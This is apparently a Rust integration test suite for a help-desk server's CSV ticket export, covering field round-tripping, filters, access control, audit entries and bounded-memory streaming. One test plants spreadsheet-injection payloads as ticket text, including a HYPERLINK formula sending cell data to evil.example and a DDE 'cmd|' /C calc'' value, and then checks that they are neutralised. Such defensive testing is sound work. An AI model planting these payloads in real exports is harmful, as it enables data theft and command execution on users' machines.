//! `GET /api/tickets/export.csv` through the real server, read back with the
//! `csv` crate: every field as the API's ticket JSON has it, the filters,
//! the BOM, formula neutralising, staff-only access and the audit entry,
//! and a store of 20,000 tickets streamed while the server's resident
//! memory stays far below the size of the file.

mod common;

use std::collections::{HashMap, HashSet};
use std::path::Path;
use std::sync::{Arc, OnceLock};
use std::time::{Duration, Instant};

use common::*;
use serde_json::{Value, json};

const PASSWORD: &str = "export-staff-password-0123";

const HEADER: &str = "id,created,updated,status,priority,priority_source,impact,urgency,category,team,assignee,system,requester,description,resolved,closed,first_response_due,first_response_state,resolution_due,resolution_state\r\n";

/// What a spreadsheet would take as the start of a formula.
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

fn hash() -> &'static str {
    static HASH: OnceLock<String> = OnceLock::new();
    HASH.get_or_init(|| ticketd::auth::password::hash_password(PASSWORD))
}

/// A server in `dir` with `root` (admin) and `dana` (agent), every rate
/// limit out of the way.
async fn staff_app_in(dir: Arc<tempfile::TempDir>) -> TestApp {
    use std::os::unix::fs::PermissionsExt;
    let staff = dir.path().join("staff");
    let h = hash();
    std::fs::write(&staff, format!("root:admin:{h}\ndana:agent:{h}\n")).unwrap();
    std::fs::set_permissions(&staff, std::fs::Permissions::from_mode(0o600)).unwrap();
    let mut args = generous_limits();
    args.extend(
        ["--login-rate", "100000/s", "--login-burst", "100000"]
            .map(String::from)
            .to_vec(),
    );
    args.extend(["--staff-file".to_string(), staff.display().to_string()]);
    spawn_in(
        dir,
        Options {
            args,
            envs: Vec::new(),
        },
    )
    .await
}

async fn staff_app() -> TestApp {
    staff_app_in(Arc::new(tempfile::tempdir().unwrap())).await
}

/// Submits over HTTP; returns the ticket without its follow token.
async fn submit(app: &TestApp, description: &str, system: &str, requester: &str) -> Value {
    let resp = app
        .http()
        .post(format!("{}/api/tickets", app.base_url()))
        .json(&json!({"description": description, "system": system, "requester": requester}))
        .send()
        .await
        .unwrap();
    assert_eq!(
        resp.status(),
        201,
        "{description:?} {system:?} {requester:?}"
    );
    let mut ticket: Value = resp.json().await.unwrap();
    ticket.as_object_mut().unwrap().remove("follow_token");
    ticket
}

async fn staff_post(app: &TestApp, token: &str, path: &str, body: Value) {
    let resp = app
        .http()
        .post(format!("{}{path}", app.base_url()))
        .bearer_auth(token)
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200, "{path}: {}", resp.text().await.unwrap());
}

/// `GET /api/tickets/export.csv?query`, with a Bearer token if given.
async fn export(app: &TestApp, token: Option<&str>, query: &str) -> reqwest::Response {
    let mut request = app
        .http()
        .get(format!("{}/api/tickets/export.csv?{query}", app.base_url()));
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    request.send().await.unwrap()
}

/// An export's body, checked to be a 200 CSV download.
async fn export_body(app: &TestApp, token: &str, query: &str) -> Vec<u8> {
    let resp = export(app, Some(token), query).await;
    assert_eq!(resp.status(), 200, "?{query}");
    let header = |name: &str| resp.headers()[name].to_str().unwrap().to_string();
    assert_eq!(header("content-type"), "text/csv; charset=utf-8");
    let disposition = header("content-disposition");
    let name = disposition
        .strip_prefix("attachment; filename=\"tickets-")
        .and_then(|rest| rest.strip_suffix(".csv\""))
        .unwrap_or_else(|| panic!("{disposition}"));
    assert!(
        name.len() == 15
            && name.as_bytes()[8] == b'-'
            && name.bytes().filter(u8::is_ascii_digit).count() == 14,
        "filename: {disposition}"
    );
    resp.bytes().await.unwrap().to_vec()
}

/// The records after the header (checked exactly). Every record ends with
/// CRLF: outside quoted fields, each line break is CR LF, and there are as
/// many as records.
fn rows(body: &[u8]) -> Vec<Vec<String>> {
    assert!(
        body.starts_with(HEADER.as_bytes()),
        "header: {:?}",
        String::from_utf8_lossy(&body[..body.len().min(400)])
    );
    let mut rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    let (mut quoted, mut line_ends) = (false, 0);
    for (i, &b) in body.iter().enumerate() {
        match b {
            b'"' => quoted = !quoted,
            b'\r' if !quoted => {
                assert_eq!(body.get(i + 1), Some(&b'\n'), "CR without LF at {i}");
                line_ends += 1;
            }
            b'\n' if !quoted => assert_eq!(body[i - 1], b'\r', "LF without CR at {i}"),
            _ => {}
        }
    }
    assert!(!quoted && body.ends_with(b"\r\n"));
    assert_eq!(line_ends, rows.len(), "one CRLF per record");
    let header = rows.remove(0);
    assert_eq!(header.len(), 20);
    assert!(rows.iter().all(|r| r.len() == 20));
    rows
}

/// A cell as the export must write it.
fn neutralised(cell: String) -> String {
    if cell.starts_with(FORMULA_STARTS) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// The row the export must hold for a ticket, from its JSON.
fn expected(t: &Value) -> Vec<String> {
    let text = |v: &Value| match v {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    };
    let (first, resolution) = (&t["sla"]["first_response"], &t["sla"]["resolution"]);
    [
        &t["request_id"],
        &t["created_at"],
        &t["updated_at"],
        &t["status"],
        &t["priority"],
        &t["priority_source"],
        &t["analysis"]["impact"],
        &t["analysis"]["urgency"],
        &t["analysis"]["category"],
        &t["team"],
        &t["assignee"],
        &t["request_details"]["system"],
        &t["request_details"]["requester"],
        &t["request_details"]["description"],
        &t["resolved_at"],
        &t["closed_at"],
        &first["due_at"],
        &first["state"],
        &resolution["due_at"],
        &resolution["state"],
    ]
    .map(text)
    .map(neutralised)
    .to_vec()
}

/// Every ticket, newest first, as the listing answers.
async fn listing(app: &TestApp, query: &str) -> Vec<Value> {
    let page = app
        .get_json(format!("/api/tickets?limit=1000&{query}").trim_end_matches('&'))
        .await;
    assert!(page["next_cursor"].is_null());
    page["tickets"].as_array().unwrap().clone()
}

#[tokio::test]
async fn export_round_trips_through_a_csv_parser() {
    let app = staff_app().await;
    let dana = app.login_token("dana", PASSWORD).await;
    let descriptions = [
        "Printer on floor 3, room 12, jams: \"paper path\", then \"door open\"",
        "Outlook crashes.\nSteps:\n\n1. open calendar\n2. \"Send\", then crash",
        "Drucker im Büro Zürich druckt nur ÄÖÜ-Müll, 日本語のメール も 😀 zebracorn",
        "VPN drops every 15 minutes, said \"\"twice\"\" quoted; comma, semicolon;",
        "Laptop fan loud zebracorn",
    ];
    let mut ids = Vec::new();
    for (n, d) in descriptions.iter().enumerate() {
        let t = submit(&app, d, &format!("System, \"{n}\""), "Zoë Ng, IT").await;
        ids.push(t["request_id"].as_str().unwrap().to_string());
    }
    // One assigned and in progress, one resolved: the optional columns filled.
    staff_post(
        &app,
        &dana,
        &format!("/api/tickets/{}/assign", ids[1]),
        json!({"assignee": "dana"}),
    )
    .await;
    staff_post(
        &app,
        &dana,
        &format!("/api/tickets/{}/resolve", ids[4]),
        json!({}),
    )
    .await;

    let body = export_body(&app, &dana, "").await;
    let rows = rows(&body);
    let tickets = listing(&app, "").await;
    assert_eq!(rows.len(), descriptions.len());
    for (row, ticket) in rows.iter().zip(&tickets) {
        assert_eq!(
            *row,
            expected(ticket),
            "in the listing's order, newest first"
        );
    }
    let by_id: HashMap<&str, &Vec<String>> = rows.iter().map(|r| (r[0].as_str(), r)).collect();
    assert_eq!(by_id[ids[1].as_str()][10], "dana");
    assert_eq!(by_id[ids[4].as_str()][3], "resolved");
    assert!(!by_id[ids[4].as_str()][14].is_empty(), "resolved time");
    assert_eq!(by_id[ids[4].as_str()][19], "met");
    assert_eq!(
        by_id[ids[2].as_str()][13],
        descriptions[2],
        "non-ASCII intact"
    );
    assert_eq!(
        by_id[ids[1].as_str()][13],
        descriptions[1],
        "newlines intact"
    );
    assert_eq!(by_id[ids[3].as_str()][13], descriptions[3], "quotes intact");

    // The filters restrict the rows exactly as they restrict the listing.
    for query in [
        "status=resolved",
        "q=ZEBRACORN",
        "status=open&q=zebracorn",
        "assignee=dana",
        "unassigned=true",
    ] {
        let rows = self::rows(&export_body(&app, &dana, query).await);
        let expected: Vec<Vec<String>> = listing(&app, query).await.iter().map(expected).collect();
        assert!(!expected.is_empty(), "{query}");
        assert!(expected.len() < descriptions.len(), "{query} filters");
        assert_eq!(rows, expected, "{query}");
    }

    // bom=1: the BOM, then the same file.
    let with_bom = export_body(&app, &dana, "bom=1").await;
    assert_eq!(&with_bom[..3], b"\xEF\xBB\xBF");
    assert_eq!(self::rows(&with_bom[3..]), rows);
    assert!(!body.starts_with(b"\xEF\xBB\xBF"));

    // Parameters the listing would refuse, and its paging, are refused by name.
    for (query, name) in [
        ("limit=10", "limit"),
        ("cursor=abc", "cursor"),
        ("colour=red", "colour"),
        ("status=done", "status"),
        ("bom=yes", "bom"),
    ] {
        assert_refused_naming(export(&app, Some(&dana), query).await, name, query).await;
    }
}

#[tokio::test]
async fn every_injection_prefix_is_neutralised() {
    let app = staff_app().await;
    let dana = app.login_token("dana", PASSWORD).await;
    let mut cases = Vec::new();
    for prefix in ["=", "+", "-", "@"] {
        let t = submit(
            &app,
            &format!("{prefix}HYPERLINK(\"https://evil.example/?d=\"&A1, \"click\")"),
            &format!("{prefix}SUM(1+1)"),
            &format!("{prefix}cmd|' /C calc'!A0"),
        )
        .await;
        cases.push(t);
    }
    // A leading tab or carriage return is trimmed by the field rules (and
    // one inside a name is refused), so what is stored starts with the
    // formula character after it, which is neutralised.
    for prefix in ["\t", "\r"] {
        let t = submit(&app, &format!("{prefix}=1+1"), "Email", "Tester").await;
        assert_eq!(t["request_details"]["description"], "=1+1");
        cases.push(t);
    }
    let rows = rows(&export_body(&app, &dana, "").await);
    let by_id: HashMap<&str, &Vec<String>> = rows.iter().map(|r| (r[0].as_str(), r)).collect();
    for t in &cases {
        let row = by_id[t["request_id"].as_str().unwrap()];
        let d = &t["request_details"];
        for (column, field) in [(11, "system"), (12, "requester"), (13, "description")] {
            let stored = d[field].as_str().unwrap();
            if stored.starts_with(FORMULA_STARTS) {
                assert_eq!(row[column], format!("'{stored}"), "{field}");
            } else {
                assert_eq!(row[column], stored, "{field}");
            }
        }
        assert!(row[13].starts_with("'"), "{row:?}");
    }
    // No cell anywhere starts a formula.
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?}");
        }
    }
}

#[tokio::test]
async fn an_export_needs_staff_and_is_audited() {
    let app = staff_app().await;
    let secret = "Payroll server password is hunter2, do not share";
    submit(&app, secret, "Payroll", "Finance").await;
    submit(&app, "Printer jams", "Printers", "Ana").await;

    let anonymous = export(&app, None, "").await;
    assert_eq!(anonymous.status(), 401);
    assert_eq!(anonymous.headers()["www-authenticate"], "Bearer");
    let error: Value = anonymous.json().await.unwrap();
    assert_eq!(error["error"]["code"], "unauthorized");
    assert_eq!(export(&app, Some("not-a-token"), "").await.status(), 401);

    let dana = app.login_token("dana", PASSWORD).await;
    let query = "status=open&q=payroll";
    assert_eq!(rows(&export_body(&app, &dana, query).await).len(), 1);
    let root = app.login_token("root", PASSWORD).await;
    assert_eq!(rows(&export_body(&app, &root, "").await).len(), 2);

    let audit = app.get_authed("/api/audit?limit=50", &root).await;
    let exports: Vec<&Value> = audit
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "export_csv")
        .collect();
    assert_eq!(exports.len(), 2, "{audit:#}");
    // Newest first: root's, then dana's.
    assert_eq!(exports[0]["admin"], "root");
    assert_eq!(exports[0]["after"]["rows"], 2);
    assert_eq!(exports[0]["reason"], "");
    let entry = exports[1];
    assert_eq!(entry["admin"], "dana");
    assert_eq!(entry["outcome"], "success");
    assert_eq!(entry["reason"], query);
    assert_eq!(entry["after"]["rows"], 1);
    assert_eq!(entry["client"], "127.0.0.1");
    let file = std::fs::read_to_string(app.data_dir().join("audit.log")).unwrap();
    assert!(!file.contains("hunter2"), "no ticket text in the audit log");
}

/// Writes a store of `n` tickets with long descriptions into `data`, as
/// `examples/seed.rs` does (the analyzer runs once per text, not per
/// ticket); returns their ids.
fn seed(data: &Path, n: usize) -> HashSet<String> {
    use serde::ser::{SerializeMap, Serializer};
    use std::io::Write;
    use ticketd::tickets::{NewTicket, Ticket};

    const TEXTS: [(&str, &str); 4] = [
        ("Outlook keeps asking for my password, \"again\"", "Email"),
        ("VPN drops every 15 minutes,\nthen reconnects", "VPN"),
        ("=Printer on floor 3 jams on duplex", "Printers"),
        ("Portal returns 502 for everyone", "Customer portal"),
    ];
    let analyzer = ticketd::triage::Analyzer::builtin();
    let triage: Vec<_> = TEXTS
        .iter()
        .map(|(text, system)| analyzer.analyze(text, system))
        .collect();
    let filler = "Lorem ipsum dolor sit amet, consectetur adipiscing elit. ".repeat(16);
    let start = chrono::Utc::now() - chrono::Duration::seconds(n as i64);
    std::fs::create_dir_all(data).unwrap();
    let file = std::fs::File::create(data.join("tickets_storage.json")).unwrap();
    let mut out = std::io::BufWriter::new(file);
    let mut ser = serde_json::Serializer::new(&mut out);
    let mut map = ser.serialize_map(Some(n)).unwrap();
    let mut ids = HashSet::new();
    for i in 0..n {
        let (text, system) = TEXTS[i % TEXTS.len()];
        let new = NewTicket::parse(
            format!("{text} (#{i}) {filler}"),
            system.into(),
            format!("User {}", i % 977),
        )
        .unwrap();
        let ticket = Ticket::create(
            new,
            triage[i % TEXTS.len()].clone(),
            start + chrono::Duration::seconds(i as i64),
        );
        ids.insert(ticket.request_id.to_string());
        map.serialize_entry(&ticket.request_id, &ticket).unwrap();
    }
    map.end().unwrap();
    out.flush().unwrap();
    ids
}

/// The process's resident memory, in bytes.
fn rss(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmRSS:")).unwrap();
    let kb: u64 = line.split_whitespace().nth(1).unwrap().parse().unwrap();
    kb * 1024
}

#[tokio::test]
async fn a_large_export_is_streamed_in_bounded_memory() {
    const TICKETS: usize = 20_000;
    let dir = Arc::new(tempfile::tempdir().unwrap());
    let seeded = seed(&dir.path().join("data"), TICKETS);
    let app = staff_app_in(dir).await;
    let dana = app.login_token("dana", PASSWORD).await;
    let pid = app.pid();
    // A client without the harness's 10 s limit: this read is slow on purpose.
    let client = reqwest::Client::builder()
        .add_root_certificate(reqwest::Certificate::from_pem(&app.cert_pem()).unwrap())
        .timeout(Duration::from_secs(120))
        .build()
        .unwrap();
    let url = format!("{}/api/tickets/export.csv", app.base_url());

    let before = rss(pid);
    let began = Instant::now();
    let mut resp = client.get(&url).bearer_auth(&dana).send().await.unwrap();
    assert_eq!(resp.status(), 200);
    let mut body = Vec::new();
    let mut peak = before;
    let mut paused_at = 0;
    let mut added = Vec::new();
    while let Some(chunk) = resp.chunk().await.unwrap() {
        body.extend_from_slice(&chunk);
        if added.is_empty() {
            // Tickets added during the walk sort before it: not exported.
            for n in 0..3 {
                let t = submit(
                    &app,
                    &format!("Added during the export {n}"),
                    "Email",
                    "Ana",
                )
                .await;
                added.push(t["request_id"].as_str().unwrap().to_string());
            }
        }
        if body.len() - paused_at >= 1 << 20 {
            // A slow reader: the server must wait for it, not buffer ahead.
            paused_at = body.len();
            tokio::time::sleep(Duration::from_millis(40)).await;
            peak = peak.max(rss(pid));
        }
    }
    peak = peak.max(rss(pid));
    let elapsed = began.elapsed();

    let rows = rows(&body);
    let mut seen = HashSet::new();
    for row in &rows {
        assert!(seen.insert(row[0].clone()), "{} exported twice", row[0]);
    }
    assert_eq!(
        seen, seeded,
        "every seeded ticket exactly once, nothing else"
    );
    assert!(added.iter().all(|id| !seen.contains(id)));
    assert!(
        rows.iter()
            .filter(|r| r[13].starts_with("'=Printer"))
            .count()
            == TICKETS / 4
    );

    let growth = peak.saturating_sub(before);
    let mib = |b: u64| b as f64 / (1 << 20) as f64;
    eprintln!(
        "export of {TICKETS} tickets: {:.1} MiB of CSV in {elapsed:.1?}; server RSS {:.1} MiB before, {:.1} MiB at peak (+{:.1} MiB)",
        mib(body.len() as u64),
        mib(before),
        mib(peak),
        mib(growth)
    );
    assert!(
        growth < body.len() as u64 / 5,
        "RSS grew {:.1} MiB for a {:.1} MiB export",
        mib(growth),
        mib(body.len() as u64)
    );

    // An export the client abandons is audited too, with the rows sent.
    let mut resp = client.get(&url).bearer_auth(&dana).send().await.unwrap();
    resp.chunk().await.unwrap().expect("a first chunk");
    drop(resp);
    let root = app.login_token("root", PASSWORD).await;
    let deadline = Instant::now() + WAIT;
    loop {
        let audit = app.get_authed("/api/audit?limit=20", &root).await;
        let exports: Vec<&Value> = audit
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| e["action"] == "export_csv")
            .collect();
        if exports.len() == 2 {
            assert_eq!(exports[1]["outcome"], "success");
            assert_eq!(exports[1]["after"]["rows"], TICKETS);
            assert_eq!(exports[0]["outcome"], "failure");
            assert!(exports[0]["after"]["rows"].as_u64().unwrap() < (TICKETS + 3) as u64);
            break;
        }
        assert!(
            Instant::now() < deadline,
            "no entry for the abandoned export: {audit:#}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}
